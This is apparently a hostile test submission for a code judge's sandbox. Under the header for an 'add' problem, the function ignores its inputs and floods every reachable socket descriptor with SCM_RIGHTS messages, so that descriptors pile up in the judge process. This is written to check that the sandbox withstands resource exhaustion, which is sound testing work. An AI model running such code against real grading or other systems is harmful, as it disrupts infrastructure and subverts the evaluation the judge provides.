# problem: add
# verdict: wrong_answer | runtime_error | crashed | exited | timed_out | output_limit
# why: Sends descriptors through the channel so that they pile up in the judge.
# unsafe: true
# limits: tight
import array
import socket


def add(a, b):
    for fd in range(3, 64):
        try:
            channel = socket.socket(fileno=fd)
            for _ in range(64):
                channel.sendmsg(
                    [b"\x00"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2] * 80))], socket.MSG_DONTWAIT
                )
            channel.detach()
        except OSError:
            pass
    return 0
